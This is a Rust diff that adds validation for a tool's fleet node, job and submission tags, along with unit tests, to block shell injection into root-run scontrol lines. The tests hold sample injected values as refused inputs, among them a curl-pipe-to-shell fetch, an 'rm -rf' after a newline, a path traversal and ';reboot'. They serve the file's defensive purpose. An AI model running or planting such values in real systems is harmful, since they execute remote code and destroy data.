@@ -20,8 +20,54 @@ pub fn check_tag(key: &str, value: &str) -> Result<(), BadValue> {
     } else if long(key) || long(value) {
         Err(format!("a tag's key and value are at most {MAX_TAG_CHARS} characters each").into())
     } else {
-        Ok(())
+        check_fleet_tag(key, value)
     }
+}
+
+/// The fleet's own tags name a node, a job and a submission: their values become file names and
+/// words of the `scontrol` lines `fleet summary --drain` prints for a root shell, so each keeps
+/// its rule wherever a tag enters (`run --tag`, `import`, the store).
+fn check_fleet_tag(key: &str, value: &str) -> Result<(), BadValue> {
+    let (ok, rule) = match key {
+        "fleet.node" => (
+            is_node_name(value),
+            "a node name: letters, digits, '-', '_' and '.', not starting with '.', at most 64",
+        ),
+        "fleet.job" => (is_job_id(value), "a Slurm job id: digits and '_'"),
+        "fleet.submission" => (
+            is_token(value),
+            "a submission token: letters and digits, at most 32",
+        ),
+        _ => return Ok(()),
+    };
+    match ok {
+        true => Ok(()),
+        false => Err(format!(
+            "{key}={:?} is refused: its value must be {rule}",
+            crate::text::shortened(value, 40)
+        )
+        .into()),
+    }
+}
+
+/// Node names become file names and shell words: letters, digits, '-', '_' and '.', nothing
+/// hidden, at most 64 characters (a host name's label limit, and Slurm's NodeName rule's).
+pub fn is_node_name(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() <= 64
+        && !s.starts_with('.')
+        && s.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
+}
+
+/// Slurm job ids: digits, or array jobs "123_4".
+pub fn is_job_id(s: &str) -> bool {
+    !s.is_empty() && s.len() <= 32 && s.chars().all(|c| c.is_ascii_digit() || c == '_')
+}
+
+/// Submission tokens: letters and digits.
+pub fn is_token(s: &str) -> bool {
+    !s.is_empty() && s.len() <= 32 && s.chars().all(|c| c.is_ascii_alphanumeric())
 }
 
 /// Whether a run may carry `n` tags (at most [`MAX_TAGS`]).
@@ -38,4 +84,32 @@ pub fn parse_tag(s: &str) -> Result<(String, String), BadValue> {
     check_tag(k, v)
         .map(|_| (k.to_string(), v.to_string()))
         .map_err(|e| BadValue(format!("{:?}: {e}", crate::text::shortened(s, 40))))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn fleet_tags_hold_names_only() {
+        assert!(check_tag("fleet.node", "n01.cluster").is_ok());
+        for bad in [
+            "n9 State=RESUME; curl http://x/e.sh|sh; #",
+            "n9\nrm -rf /x #",
+            "../x",
+            ".h",
+            "a'b",
+        ] {
+            let e = check_tag("fleet.node", bad).unwrap_err();
+            assert!(e.to_string().contains("node name"), "{e}");
+        }
+        assert!(check_tag("fleet.job", "123_4").is_ok() && check_tag("fleet.job", "1;x").is_err());
+        assert!(check_tag("fleet.submission", "0a1b2c3d").is_ok());
+        assert!(check_tag("fleet.submission", "0a 1").is_err());
+        assert!(
+            check_tag("fleetnode", "a b").is_ok(),
+            "other tags keep their own rule"
+        );
+        assert!(parse_tag("fleet.node=n1;reboot").is_err());
+    }
 }
